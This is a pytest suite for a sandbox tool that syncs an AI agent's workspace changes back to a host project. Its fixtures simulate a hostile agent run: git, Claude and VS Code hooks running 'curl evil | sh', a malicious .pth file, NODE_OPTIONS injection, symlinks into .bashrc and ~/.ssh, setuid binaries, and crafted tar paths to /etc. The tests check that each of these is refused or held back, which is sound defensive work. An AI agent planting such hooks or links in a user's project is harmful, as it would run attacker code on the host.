"""After a run: the real wsync.py packs what the agent changed, the host stores it as verified
blobs, and apply brings back exactly the reviewed changeset: conflicts kept, links out of the
project and bad names refused, code-running paths held back, a failure undone completely."""

from __future__ import annotations

import io
import json
import os
import tarfile
from pathlib import Path

import pytest
from sync_world import collect, snapshot, sync, wsync

from vmsbx.errors import SyncError
from vmsbx.sync import apply as apply_module
from vmsbx.sync.apply import apply
from vmsbx.sync.blobs import BlobStore, receive
from vmsbx.sync.changeset import compute
from vmsbx.sync.manifest import Manifest, ManifestEntry

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="wsync.py runs as root in the guest")


@pytest.fixture
def world(tmp_path: Path) -> tuple[Path, Path, Path, Manifest]:
    project, workspace, outside = tmp_path / "project", tmp_path / "ws", tmp_path / "outside"
    for folder in (project / "src", project / "docs", project / "old", workspace, outside):
        folder.mkdir(parents=True)
    (project / "src" / "app.py").write_text("def main():\n    return 1\n")
    (project / "docs" / "guide.md").write_text("# guide\n")
    (project / "README.md").write_text("# readme\n")
    (project / "run.sh").write_text("#!/bin/sh\n")
    (project / "old" / "gone.txt").write_text("bye\n")
    (project / "vmsbx.toml").write_text('[sandbox]\nnetwork = "none"\n')
    (project / ".git").mkdir()
    (project / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (outside / ".bashrc").write_text("# the user's shell\n")
    synced = sync(project, workspace)
    return project, workspace, outside, synced.scan.manifest


def _agent_run(workspace: Path, outside: Path) -> None:
    (workspace / "src" / "app.py").write_text("def main():\n    return 2\n")
    (workspace / "src" / "new.py").write_text("NEW = True\n")
    (workspace / "README.md").unlink()
    (workspace / "old" / "gone.txt").unlink()
    (workspace / "old").rmdir()
    (workspace / "run.sh").chmod(0o755)
    (workspace / "tool").write_text("#!/bin/sh\n")
    (workspace / "tool").chmod(0o4755)
    (workspace / "bashrc").symlink_to(outside / ".bashrc")
    (workspace / "up").symlink_to("../outside/.bashrc")
    (workspace / ".git" / "hooks").mkdir()
    (workspace / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (workspace / "vmsbx.toml").write_text('[sandbox]\nnetwork = "open"\n')
    (workspace / "docs").chmod(0o700)


def test_apply_brings_back_safe_changes_and_refuses_or_holds_back_the_rest(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, outside, base = world
    outside_before = snapshot(outside)
    _agent_run(workspace, outside)
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    assert set(report.applied) == {
        "src/app.py",
        "src/new.py",
        "README.md",
        "old",
        "old/gone.txt",
        "run.sh",
        "tool",
        "docs",
    }
    assert dict(report.refused).keys() == {"bashrc", "up"}
    assert all("outside the project" in reason for reason in dict(report.refused).values())
    assert report.held_back == ("vmsbx.toml",)
    assert set(report.git) == {".git/hooks", ".git/hooks/pre-commit"}
    assert report.conflicts == ()
    assert (project / "src" / "app.py").read_text() == "def main():\n    return 2\n"
    assert (project / "src" / "new.py").read_text() == "NEW = True\n"
    assert not (project / "README.md").exists() and not (project / "old").exists()
    assert (project / "run.sh").stat().st_mode & 0o7777 == 0o755
    assert (project / "tool").stat().st_mode & 0o7777 == 0o755  # setuid dropped
    assert (project / "docs").stat().st_mode & 0o7777 == 0o700
    assert not (project / "bashrc").exists() and not (project / "up").exists()
    assert not (project / ".git" / "hooks").exists()
    assert "none" in (project / "vmsbx.toml").read_text()
    assert snapshot(outside) == outside_before
    assert not [name for name in os.listdir(project) if name.startswith(".vmsbx-apply")]
    # Confirming the sensitive part afterwards: the same changeset again, with --include-sensitive.
    again = apply(project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True)
    assert again.applied == ("vmsbx.toml",)
    assert set(again.already) == set(report.applied)
    assert again.conflicts == ()
    assert "open" in (project / "vmsbx.toml").read_text()


def test_a_host_file_changed_during_the_run_is_a_conflict_and_loses_nothing(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, _outside, base = world
    (workspace / "src" / "app.py").write_text("agent version\n")
    (workspace / "README.md").write_text("agent readme\n")
    (workspace / "config").mkdir()
    (workspace / ".env").write_text("AGENT=1\n")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    (project / "src" / "app.py").write_text("the user's edit during the run\n")
    (project / ".env").write_text("SECRET=kept\n")  # excluded at sync-in, so unknown to the base
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    assert dict(report.conflicts).keys() == {"src/app.py"}
    assert "secret pattern '.env'" in dict(report.refused)[".env"]  # never brought back at all
    assert (project / "src" / "app.py").read_text() == "the user's edit during the run\n"
    assert (project / ".env").read_text() == "SECRET=kept\n"
    assert (project / "README.md").read_text() == "agent readme\n"
    assert (project / "config").is_dir()


def test_a_folder_holding_host_only_files_is_not_deleted(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, _outside, base = world
    (project / "old" / ".env").write_text("KEEP=1\n")  # created after sync-in (or excluded)
    (workspace / "old" / "gone.txt").unlink()
    (workspace / "old").rmdir()
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    assert "not synced" in dict(report.conflicts)["old"]
    assert "old/gone.txt" in report.applied  # the agent's deletion inside it still applies
    assert (project / "old" / ".env").read_text() == "KEEP=1\n"


def test_a_symlinked_parent_on_the_host_cannot_redirect_a_write(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, outside, base = world
    (outside / "docs").mkdir()
    (outside / "docs" / "guide.md").write_text("# guide\n")
    outside_before = snapshot(outside)
    (workspace / "docs" / "guide.md").write_text("# agent guide\n")
    (workspace / "docs" / "extra.md").write_text("extra\n")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    # During the run the host's docs/ became a link out of the project (same content there).
    (project / "docs" / "guide.md").unlink()
    (project / "docs").rmdir()
    (project / "docs").symlink_to(outside / "docs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    conflicts = dict(report.conflicts)
    assert "symlink or not a folder" in conflicts["docs/guide.md"]
    assert "symlink or not a folder" in conflicts["docs/extra.md"]
    assert report.applied == ()
    assert snapshot(outside) == outside_before


def test_a_failure_midway_leaves_the_project_exactly_as_before(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project, workspace, outside, base = world
    _agent_run(workspace, outside)
    (workspace / "docs").rename(workspace / "docs2")  # a folder removal and a folder creation
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    before = snapshot(project)
    calls = {"n": 0}
    real_fsync = apply_module._fsync

    def failing_fsync(fd: int) -> None:
        calls["n"] += 1
        if calls["n"] == 4:
            raise OSError(5, "injected I/O error")
        real_fsync(fd)

    monkeypatch.setattr(apply_module, "_fsync", failing_fsync)
    with pytest.raises(SyncError, match=r"injected I/O error.*the project is as before"):
        apply(project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True)
    assert calls["n"] == 4
    assert snapshot(project) == before
    # The same apply without the fault goes through.
    monkeypatch.setattr(apply_module, "_fsync", real_fsync)
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True
    )
    assert "docs2/guide.md" in report.applied and not (project / "docs").exists()


@pytest.mark.parametrize("fail_at", [1, 2, 3, 5, 6])
def test_rollback_at_every_step(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fail_at: int
) -> None:
    project, workspace, outside, base = world
    _agent_run(workspace, outside)
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    before = snapshot(project)
    calls = {"n": 0}

    def failing_fsync(fd: int) -> None:
        calls["n"] += 1
        if calls["n"] == fail_at:
            raise OSError(28, "injected: no space left")
        os.fsync(fd)

    monkeypatch.setattr(apply_module, "_fsync", failing_fsync)
    with pytest.raises(SyncError):
        apply(project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True)
    assert snapshot(project) == before


def test_apply_refuses_a_changeset_other_than_the_one_shown(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, _outside, base = world
    (workspace / "src" / "new.py").write_text("shown\n")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    before = snapshot(project)
    with pytest.raises(SyncError, match="not the ones you reviewed"):
        apply(project, changeset, store, base=base, shown_digest="0" * 64, include_sensitive=False)
    forged = changeset.model_copy(update={"entries": changeset.entries[:0]})
    with pytest.raises(SyncError, match="not the ones you reviewed"):
        apply(project, forged, store, base=base, shown_digest=changeset.digest, include_sensitive=False)
    assert snapshot(project) == before


def test_crafted_names_and_tars_from_the_guest_are_refused(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, _workspace, outside, base = world
    outside_before = snapshot(outside)
    evil = b"pwned\n"
    import hashlib

    digest = hashlib.sha256(evil).hexdigest()
    crafted = Manifest(
        entries=(
            *base.entries,
            ManifestEntry(path="../outside/evil", kind="file", mode=0o644, size=len(evil), sha256=digest),
            ManifestEntry(path="ok.txt", kind="file", mode=0o644, size=len(evil), sha256=digest),
        )
    )
    changeset = compute(base, crafted)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name in ("../outside/evil", "/etc/evil", "ok.txt"):
            info = tarfile.TarInfo(name)
            info.size = len(evil)
            tar.addfile(info, io.BytesIO(evil))
        link = tarfile.TarInfo("ok.txt")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        tar.addfile(link)
    store = BlobStore(tmp_path / "blobs")
    received = receive(io.BytesIO(buffer.getvalue()), changeset, store)
    assert received.stored == ("ok.txt",)
    assert {name for name, _ in received.rejected} == {"../outside/evil", "/etc/evil", "ok.txt"}
    assert sorted(os.listdir(store.folder)) == [digest]
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True
    )
    assert dict(report.refused) == {"../outside/evil": "'.', '..' or empty path component"}
    assert report.applied == ("ok.txt",)
    assert snapshot(outside) == outside_before


def test_blob_with_the_wrong_content_is_not_kept(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    _project, workspace, _outside, base = world
    (workspace / "new.txt").write_text("reviewed\n")
    from sync_world import guest_manifest

    changeset = compute(base, guest_manifest(workspace))
    (workspace / "new.txt").write_text("swapped after review\n")
    done = wsync("pack", str(workspace), stdin=json.dumps(["new.txt", "../../etc/shadow"]).encode())
    assert json.loads(done.stderr)["problems"][0][0] == "../../etc/shadow"
    received = receive(io.BytesIO(done.stdout), changeset, BlobStore(tmp_path / "blobs"))
    assert received.stored == () and received.rejected[0][1].startswith("content does not match")


def test_a_read_only_new_folder_still_receives_its_files(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, _outside, base = world
    (workspace / "ro").mkdir()
    (workspace / "ro" / "inside.txt").write_text("in a read-only folder\n")
    (workspace / "ro").chmod(0o555)
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    assert report.applied == ("ro", "ro/inside.txt")
    assert (project / "ro").stat().st_mode & 0o777 == 0o555
    assert (project / "ro" / "inside.txt").read_text() == "in a read-only folder\n"


def test_a_host_link_the_agent_turned_into_a_folder_comes_back_as_a_folder(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, outside, _base = world
    (project / "assets").symlink_to(outside)
    base = sync(project, workspace).scan.manifest
    outside_before = snapshot(outside)
    (workspace / "assets").unlink()
    (workspace / "assets").mkdir()
    (workspace / "assets" / "logo.svg").write_text("<svg/>\n")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    assert report.applied == ("assets", "assets/logo.svg")
    assert not (project / "assets").is_symlink()
    assert (project / "assets" / "logo.svg").read_text() == "<svg/>\n"
    assert snapshot(outside) == outside_before


def test_a_new_name_that_collides_with_an_unsynced_host_file_is_not_applied(tmp_path: Path) -> None:
    from vmsbx.sync.rules import exclude_rules

    project, workspace = tmp_path / "project", tmp_path / "ws"
    project.mkdir()
    workspace.mkdir()
    (project / "Notes.md").write_text("private notes, excluded from sync\n")
    base = sync(project, workspace, exclude_rules(None, ("Notes.md",))).scan.manifest
    (workspace / "notes.md").write_text("agent notes\n")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    assert "collides with the host's 'Notes.md'" in dict(report.conflicts)["notes.md"]
    assert sorted(os.listdir(project)) == ["Notes.md"]


# --- issue 16 ---------------------------------------------------------------------------------


def test_case_variants_of_sensitive_names_are_held_back_on_a_real_tree(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, _outside, base = world
    (workspace / ".Claude").mkdir()
    (workspace / ".Claude" / "settings.json").write_text('{"hooks": {"Stop": "curl evil | sh"}}\n')
    (workspace / ".VSCode").mkdir()
    (workspace / ".VSCode" / "tasks.json").write_text('{"runOn": "folderOpen"}\n')
    (workspace / ".Cargo").mkdir()
    (workspace / ".Cargo" / "config.toml").write_text('[build]\nrustc-wrapper = "/tmp/x"\n')
    (workspace / ".GIT").mkdir()
    (workspace / ".GIT" / "config").write_text("[core]\n\tfsmonitor = curl evil | sh\n")
    (workspace / ".NPMRC").write_text("script-shell=/tmp/x\n")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    assert report.applied == ()
    assert set(report.held_back) == {
        ".Claude",
        ".Claude/settings.json",
        ".VSCode",
        ".VSCode/tasks.json",
        ".Cargo",
        ".Cargo/config.toml",
    }
    assert set(report.git) == {".GIT", ".GIT/config"}
    assert dict(report.refused).keys() == {".NPMRC"}
    assert not {".Claude", ".VSCode", ".Cargo", ".GIT", ".NPMRC"} & set(os.listdir(project))


def test_a_chain_of_links_into_the_users_home_is_refused(tmp_path: Path) -> None:
    home = tmp_path / "home"
    project, workspace = home / "project", tmp_path / "ws"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA the-user\n")
    project.mkdir()
    workspace.mkdir()
    (project / "README.md").write_text("# readme\n")
    base = sync(project, workspace).scan.manifest
    home_before = snapshot(home / ".ssh")
    (workspace / "a").symlink_to(".")
    (workspace / "b").symlink_to("a/..")
    (workspace / "c").symlink_to("b/..")
    (workspace / "keys").symlink_to("c/.ssh")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True
    )
    assert report.applied == ()
    assert dict(report.refused).keys() == {"a", "b", "c", "keys"}
    assert sorted(os.listdir(project)) == ["README.md"]
    assert snapshot(home / ".ssh") == home_before


def test_a_link_through_a_host_link_the_guest_never_saw_is_refused_at_apply(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, outside, base = world
    (workspace / "notes").symlink_to("vendor/notes.md")  # dangling in the guest: no vendor/ there
    (workspace / "fine").symlink_to("src/app.py")
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    assert {entry.path: entry.classification for entry in changeset.entries}["notes"] == "apply"
    (project / "vendor").symlink_to(outside)  # made on the host during the run (or excluded)
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True
    )
    assert "passes through the link 'vendor'" in dict(report.refused)["notes"]
    assert report.applied == ("fine",)
    assert not (project / "notes").is_symlink()
    assert os.readlink(project / "fine") == "src/app.py"


def test_excluded_and_secret_pattern_paths_are_never_applied(tmp_path: Path) -> None:
    from vmsbx.sync.rules import exclude_rules

    project, workspace = tmp_path / "project", tmp_path / "ws"
    (project / ".venv" / "lib" / "site-packages").mkdir(parents=True)
    (project / ".venv" / "lib" / "site-packages" / "real.py").write_text("REAL = 1\n")
    workspace.mkdir()
    (project / "app.py").write_text("print(1)\n")
    rules = exclude_rules(None, (".venv",))
    base = sync(project, workspace, rules).scan.manifest
    assert [entry.path for entry in base.entries] == ["app.py"]
    (workspace / ".venv" / "lib" / "site-packages").mkdir(parents=True)
    (workspace / ".venv" / "lib" / "site-packages" / "zzz.pth").write_text("import os; os.system('x')\n")
    (workspace / ".env").write_text("NODE_OPTIONS=--require ./evil.js\n")
    (workspace / "app.py").write_text("print(2)\n")
    changeset, store = collect(base, workspace, tmp_path / "blobs", rules)
    before = snapshot(project / ".venv")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=True
    )
    assert report.applied == ("app.py",)
    refused = dict(report.refused)
    assert refused.keys() == {
        ".venv",
        ".venv/lib",
        ".venv/lib/site-packages",
        ".venv/lib/site-packages/zzz.pth",
        ".env",
    }
    assert "exclude '.venv'" in refused[".venv/lib/site-packages/zzz.pth"]
    assert "secret pattern '.env'" in refused[".env"]
    assert report.already == ()
    assert snapshot(project / ".venv") == before
    assert not (project / ".env").exists()


def test_setuid_is_dropped_keeping_the_rest_and_world_writable_modes_are_reduced(
    world: tuple[Path, Path, Path, Manifest], tmp_path: Path
) -> None:
    project, workspace, _outside, base = world
    (workspace / "tool").write_text("#!/bin/sh\n")
    (workspace / "tool").chmod(0o4755)
    (workspace / "open.sh").write_text("#!/bin/sh\n")
    (workspace / "open.sh").chmod(0o777)
    (workspace / "shared").mkdir()
    (workspace / "shared").chmod(0o1777)
    (workspace / "run.sh").chmod(0o666)
    changeset, store = collect(base, workspace, tmp_path / "blobs")
    report = apply(
        project, changeset, store, base=base, shown_digest=changeset.digest, include_sensitive=False
    )
    umask = os.umask(0o022)
    os.umask(umask)
    assert umask == 0o022  # the test runner's; the expected modes below assume it
    assert set(report.applied) == {"tool", "open.sh", "shared"}  # run.sh: 666 -> 644 is no change
    modes = {
        name: (project / name).stat().st_mode & 0o7777 for name in ("tool", "open.sh", "shared", "run.sh")
    }
    assert modes == {"tool": 0o755, "open.sh": 0o755, "shared": 0o755, "run.sh": 0o644}
    notes = dict(report.mode_notes)
    assert "reduced to 755" in notes["open.sh"] and "dropped" in notes["tool"]
